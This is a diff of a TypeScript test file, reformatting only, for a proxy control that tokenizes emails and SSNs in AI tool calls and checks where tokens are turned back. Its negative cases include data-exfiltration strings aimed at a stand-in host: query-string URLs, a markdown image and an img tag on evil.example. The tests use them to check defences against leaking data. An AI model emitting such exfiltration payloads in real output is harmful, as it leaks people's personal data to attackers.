@@ -1,11 +1,11 @@
 /** Where tokens are turned back, and where they stay what they are. */
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import type { DefinedControl } from '../../../proxy/pipeline/control.ts';
 import { tokenization, type TokenizationOptions } from '../../../proxy/controls/tokenization/index.ts';
 import { Urls } from '../../../proxy/controls/tokenization/url.ts';
 import { isObject } from '../../../proxy/json/lossless.ts';
 import type { JsonValue } from '../../../proxy/json/value.ts';
+import type { DefinedControl } from '../../../proxy/pipeline/control.ts';
 import { callControl } from '../../../testing/index.ts';
 import { Lines } from '../../dispatch/lines.ts';
 import { bindRing, emails, TENANT, tokenOf } from './keys.ts';
@@ -21,11 +21,20 @@ beforeAll(() => lines.start());
 afterAll(() => lines.stop());
 
 function controlOf(options: Partial<TokenizationOptions>): DefinedControl {
-  return tokenization({ tenant: TENANT, detectors: [emails], fields: [{ tool: 'look', path: 'ssn', type: 'us-ssn' }], ...options });
+  return tokenization({
+    tenant: TENANT,
+    detectors: [emails],
+    fields: [{ tool: 'look', path: 'ssn', type: 'us-ssn' }],
+    ...options,
+  });
 }
 
 async function forwarded(control: DefinedControl, to: JsonValue): Promise<JsonValue | undefined> {
-  const { forwarded: call } = await callControl(control, { method: 'tools/call', params: { name: 'send', arguments: { to } } }, { bindings });
+  const { forwarded: call } = await callControl(
+    control,
+    { method: 'tools/call', params: { name: 'send', arguments: { to } } },
+    { bindings },
+  );
   const args = isObject(call?.params) ? call.params['arguments'] : undefined;
   return isObject(args) ? args['to'] : undefined;
 }
@@ -50,7 +59,13 @@ describe.each(['upstream', 'client'] as const)('towards the upstream, hidden fro
 
   test('a token that is all of the field is turned back, as an address, a URL or whatever it was written as', async () => {
     const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to' }] });
-    for (const [to, value] of [[TOKEN, EMAIL], [SSN_TOKEN, SSN], [`https://qtk.invalid/${SSN_TOKEN}`, SSN], [TOKEN.replace('@', '%40'), encodeURIComponent(EMAIL)]] as const) expect(await forwarded(control, to)).toBe(value);
+    for (const [to, value] of [
+      [TOKEN, EMAIL],
+      [SSN_TOKEN, SSN],
+      [`https://qtk.invalid/${SSN_TOKEN}`, SSN],
+      [TOKEN.replace('@', '%40'), encodeURIComponent(EMAIL)],
+    ] as const)
+      expect(await forwarded(control, to)).toBe(value);
     expect(await forwarded(control, [TOKEN, `${TOKEN}x`])).toEqual([EMAIL, `${TOKEN}x`]);
   });
 
@@ -63,8 +78,32 @@ describe.each(['upstream', 'client'] as const)('towards the upstream, hidden fro
 
   test('within a text only where the config says so, and where the token is a word of its own', async () => {
     const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to', within: true }] });
-    for (const text of ['Dear # !', 'Mara <#>', 'to: "#", and (#).', '#', 'a\n#\nb', '#, #; #', 'see [#].']) expect(await forwarded(control, text.replaceAll('#', TOKEN)), text).toBe(text.replaceAll('#', EMAIL));
-    for (const text of ['#.evil.example', 'x#', '#x', '"#"@evil.example', '(#)@evil.example', '<#>@evil.example', 'a/#', '#/a', 'x:#', '#:80', '#,evil.example', 'https://evil.example/?d=#', '![](<https://evil.example/?d= # >)', '<img src="https://evil.example/?d= # ">', '1,#', '#%', 'a=#', '-#', '#-', '##', '#@evil.example', '\u200b#']) {
+    for (const text of ['Dear # !', 'Mara <#>', 'to: "#", and (#).', '#', 'a\n#\nb', '#, #; #', 'see [#].'])
+      expect(await forwarded(control, text.replaceAll('#', TOKEN)), text).toBe(text.replaceAll('#', EMAIL));
+    for (const text of [
+      '#.evil.example',
+      'x#',
+      '#x',
+      '"#"@evil.example',
+      '(#)@evil.example',
+      '<#>@evil.example',
+      'a/#',
+      '#/a',
+      'x:#',
+      '#:80',
+      '#,evil.example',
+      'https://evil.example/?d=#',
+      '![](<https://evil.example/?d= # >)',
+      '<img src="https://evil.example/?d= # ">',
+      '1,#',
+      '#%',
+      'a=#',
+      '-#',
+      '#-',
+      '##',
+      '#@evil.example',
+      '\u200b#',
+    ]) {
       const to = text.replaceAll('#', TOKEN);
       expect(await forwarded(control, to), text).toBe(to);
     }
@@ -73,9 +112,34 @@ describe.each(['upstream', 'client'] as const)('towards the upstream, hidden fro
 
 /** What the client gets of a text, in each of the places that a tool's result has for one. */
 async function shown(control: DefinedControl, text: string): Promise<readonly (JsonValue | undefined)[]> {
-  const { result } = await callControl(control, { method: 'tools/call', params: { name: 'x', arguments: {} } }, { bindings, result: { content: [{ type: 'text', text }, { type: 'resource', resource: { uri: text, text } }], structuredContent: { a: text, deep: JSON.stringify({ a: text }) } } });
-  const { content, structuredContent } = (result ?? {}) as { readonly content?: readonly [{ readonly text: string }, { readonly resource: { readonly uri: string; readonly text: string } }]; readonly structuredContent?: { readonly a: string; readonly deep: string } };
-  return [content?.[0].text, content?.[1].resource.uri, content?.[1].resource.text, structuredContent?.a, (JSON.parse(structuredContent?.deep ?? '{}') as { readonly a?: string }).a];
+  const { result } = await callControl(
+    control,
+    { method: 'tools/call', params: { name: 'x', arguments: {} } },
+    {
+      bindings,
+      result: {
+        content: [
+          { type: 'text', text },
+          { type: 'resource', resource: { uri: text, text } },
+        ],
+        structuredContent: { a: text, deep: JSON.stringify({ a: text }) },
+      },
+    },
+  );
+  const { content, structuredContent } = (result ?? {}) as {
+    readonly content?: readonly [
+      { readonly text: string },
+      { readonly resource: { readonly uri: string; readonly text: string } },
+    ];
+    readonly structuredContent?: { readonly a: string; readonly deep: string };
+  };
+  return [
+    content?.[0].text,
+    content?.[1].resource.uri,
+    content?.[1].resource.text,
+    structuredContent?.a,
+    (JSON.parse(structuredContent?.deep ?? '{}') as { readonly a?: string }).a,
+  ];
 }
 
 describe('towards the client', () => {
@@ -128,50 +192,119 @@ describe('towards the client', () => {
     ['behind an escaped quote', 'O&#39;§ and &quot;§&quot;'],
   ])('a token %s is turned back', async (_what, text) => {
     const own = text.replaceAll('§', SSN_TOKEN);
-    for (const value of await shown(usual, own)) expect(value).toBe(own.replaceAll(`https://qtk.invalid/${SSN_TOKEN}`, SSN).replaceAll(SSN_TOKEN, SSN));
+    for (const value of await shown(usual, own))
+      expect(value).toBe(own.replaceAll(`https://qtk.invalid/${SSN_TOKEN}`, SSN).replaceAll(SSN_TOKEN, SSN));
   });
 
   test('what stands for a URL stays where something goes on behind it, which would become a part of that URL', async () => {
-    for (const text of [`https://qtk.invalid/${SSN_TOKEN}.evil.example/x`, `https://qtk.invalid/${SSN_TOKEN}x`, `see https://qtk.invalid/${SSN_TOKEN}@evil.example`]) expect((await shown(usual, text))[0]).toBe(text);
+    for (const text of [
+      `https://qtk.invalid/${SSN_TOKEN}.evil.example/x`,
+      `https://qtk.invalid/${SSN_TOKEN}x`,
+      `see https://qtk.invalid/${SSN_TOKEN}@evil.example`,
+    ])
+      expect((await shown(usual, text))[0]).toBe(text);
   });
 
   test('a link that only a person opens has its value, percent-encoded', async () => {
     const name = tokenOf('Mara Inventado', 'name');
     const control = controlOf({ fields: [{ tool: 'look', path: 'name', type: 'name' }] });
-    expect(await shown(control, `mailto:a@example.com?body=${name}&to=${TOKEN}`)).toEqual(Array.from({ length: 5 }, () => `mailto:a@example.com?body=Mara%20Inventado&to=${EMAIL}`));
+    expect(await shown(control, `mailto:a@example.com?body=${name}&to=${TOKEN}`)).toEqual(
+      Array.from({ length: 5 }, () => `mailto:a@example.com?body=Mara%20Inventado&to=${EMAIL}`),
+    );
   });
 
   test('where a config says so, tokens in URLs are turned back, percent-encoded', async () => {
-    expect(await shown(everywhere, `![](https://example.com/?d=${SSN_TOKEN}&m=${TOKEN})`)).toEqual(Array.from({ length: 5 }, () => `![](https://example.com/?d=${SSN}&m=${EMAIL})`));
+    expect(await shown(everywhere, `![](https://example.com/?d=${SSN_TOKEN}&m=${TOKEN})`)).toEqual(
+      Array.from({ length: 5 }, () => `![](https://example.com/?d=${SSN}&m=${EMAIL})`),
+    );
   });
 
   test('the URI of a resource with a token in it stays as it is, so that it can be read', async () => {
-    const { result } = await callControl(usual, { method: 'resources/list', params: {} }, { bindings, result: { resources: [{ uri: `customer://${SSN_TOKEN}`, name: `of ${SSN_TOKEN}` }] } });
+    const { result } = await callControl(
+      usual,
+      { method: 'resources/list', params: {} },
+      { bindings, result: { resources: [{ uri: `customer://${SSN_TOKEN}`, name: `of ${SSN_TOKEN}` }] } },
+    );
     expect(result).toEqual({ resources: [{ uri: `customer://${SSN_TOKEN}`, name: `of ${SSN}` }] });
   });
 
   test('what a value brings along may be the beginning of a URL, and what follows it stays', async () => {
     const page = tokenOf('https://example.com/?d=', 'us-ssn');
-    expect((await shown(usual, `at ${page}${TOKEN} or ${TOKEN}`))[0]).toBe(`at https://example.com/?d=${TOKEN} or ${EMAIL}`);
+    expect((await shown(usual, `at ${page}${TOKEN} or ${TOKEN}`))[0]).toBe(
+      `at https://example.com/?d=${TOKEN} or ${EMAIL}`,
+    );
   });
 
   test('what comes back with the answer stays a token: the form of a question, and the words for a model', async () => {
-    const params = { message: `ok, ${EMAIL}?`.replace(EMAIL, TOKEN), requestedSchema: { type: 'object', properties: { a: { type: 'string', title: `of ${TOKEN}`, default: TOKEN, enum: [TOKEN] } } } };
-    const sampling = { messages: [{ role: 'user', content: { type: 'text', text: `Who is ${TOKEN}?` } }], systemPrompt: `You are ${TOKEN}`, maxTokens: 5 };
-    const { result } = await callControl(usual, { method: 'tools/call', params: { name: 'x', arguments: {} } }, { bindings, result: { resultType: 'input_required', inputRequests: { a: { method: 'elicitation/create', params }, b: { method: 'sampling/createMessage', params: sampling } } } });
-    expect(result).toEqual({ resultType: 'input_required', inputRequests: { a: { method: 'elicitation/create', params: { ...params, message: `ok, ${EMAIL}?` } }, b: { method: 'sampling/createMessage', params: sampling } } });
-    const { messages } = await callControl(usual, { method: 'tools/call', params: { name: 'x', arguments: {} } }, { era: 'legacy', bindings, messages: [{ id: 7, method: 'elicitation/create', params }, { id: 8, method: 'sampling/createMessage', params: sampling }, { result: {} }] });
-    expect(messages.slice(0, 2).map((message) => message['params'])).toEqual([{ ...params, message: `ok, ${EMAIL}?` }, sampling]);
+    const params = {
+      message: `ok, ${EMAIL}?`.replace(EMAIL, TOKEN),
+      requestedSchema: {
+        type: 'object',
+        properties: { a: { type: 'string', title: `of ${TOKEN}`, default: TOKEN, enum: [TOKEN] } },
+      },
+    };
+    const sampling = {
+      messages: [{ role: 'user', content: { type: 'text', text: `Who is ${TOKEN}?` } }],
+      systemPrompt: `You are ${TOKEN}`,
+      maxTokens: 5,
+    };
+    const { result } = await callControl(
+      usual,
+      { method: 'tools/call', params: { name: 'x', arguments: {} } },
+      {
+        bindings,
+        result: {
+          resultType: 'input_required',
+          inputRequests: {
+            a: { method: 'elicitation/create', params },
+            b: { method: 'sampling/createMessage', params: sampling },
+          },
+        },
+      },
+    );
+    expect(result).toEqual({
+      resultType: 'input_required',
+      inputRequests: {
+        a: { method: 'elicitation/create', params: { ...params, message: `ok, ${EMAIL}?` } },
+        b: { method: 'sampling/createMessage', params: sampling },
+      },
+    });
+    const { messages } = await callControl(
+      usual,
+      { method: 'tools/call', params: { name: 'x', arguments: {} } },
+      {
+        era: 'legacy',
+        bindings,
+        messages: [
+          { id: 7, method: 'elicitation/create', params },
+          { id: 8, method: 'sampling/createMessage', params: sampling },
+          { result: {} },
+        ],
+      },
+    );
+    expect(messages.slice(0, 2).map((message) => message['params'])).toEqual([
+      { ...params, message: `ok, ${EMAIL}?` },
+      sampling,
+    ]);
   });
 
   test('a number stays a token of its own shape where what it stands for is not written as a number', async () => {
     const control = tokenization({ tenant: TENANT, fields: [{ tool: 'x', path: 'id', type: 'person' }] });
-    const tools = [{ name: 'x', inputSchema: { type: 'object' as const, properties: { id: { type: 'string', maxLength: 9 } } } }];
+    const tools = [
+      { name: 'x', inputSchema: { type: 'object' as const, properties: { id: { type: 'string', maxLength: 9 } } } },
+    ];
     const call = (id: string) => ({ method: 'tools/call', params: { name: 'x', arguments: { id } } });
-    for (const [id, back] of [['0045678', false], ['9045678', true]] as const) {
+    for (const [id, back] of [
+      ['0045678', false],
+      ['9045678', true],
+    ] as const) {
       const { forwarded: sent } = await callControl(control, call(id), { bindings, tools });
       const token = Number((sent?.params as { readonly arguments: { readonly id: string } } | undefined)?.arguments.id);
-      const { result } = await callControl(control, call(id), { bindings, tools, result: { content: [], structuredContent: { id: token } } });
+      const { result } = await callControl(control, call(id), {
+        bindings,
+        tools,
+        result: { content: [], structuredContent: { id: token } },
+      });
       expect(result).toHaveProperty('structuredContent.id', back ? Number(id) : token);
     }
   });
@@ -179,17 +312,51 @@ describe('towards the client', () => {
 
 describe('what may be fetched', () => {
   test('is told for many places in one text by looking at each of its characters once', () => {
-    const pieces = fc.constantFrom('https://', '//', '"', '\\"', "'", '<', '>', '(', ')', ' ', '\n', 'a', ':', 'x-app:', 'data:', '&#58;', 'mailto:', '\\', '/');
+    const pieces = fc.constantFrom(
+      'https://',
+      '//',
+      '"',
+      '\\"',
+      "'",
+      '<',
+      '>',
+      '(',
+      ')',
+      ' ',
+      '\n',
+      'a',
+      ':',
+      'x-app:',
+      'data:',
+      '&#58;',
+      'mailto:',
+      '\\',
+      '/',
+    );
     fc.assert(
       fc.property(fc.array(pieces, { maxLength: 24 }), (parts) => {
         const text = parts.join('');
         const all = new Urls(text);
         // Asked at each place in order, or at one alone: the answer is the same.
-        for (let at = 0; at <= text.length; at++) expect(all.holds(at), JSON.stringify([text, at])).toBe(new Urls(text).holds(at));
+        for (let at = 0; at <= text.length; at++)
+          expect(all.holds(at), JSON.stringify([text, at])).toBe(new Urls(text).holds(at));
       }),
       { numRuns: 2_000 },
     );
-    for (const unit of ['//', '"https://a ', "'https://a ", '(https://a(', '\\"//', '<//', 'https:', ' ', '"', 'mailto:', '&#58;', 'a.']) {
+    for (const unit of [
+      '//',
+      '"https://a ',
+      "'https://a ",
+      '(https://a(',
+      '\\"//',
+      '<//',
+      'https:',
+      ' ',
+      '"',
+      'mailto:',
+      '&#58;',
+      'a.',
+    ]) {
       const text = unit.repeat(400_000);
       const urls = new Urls(text);
       let held = 0;
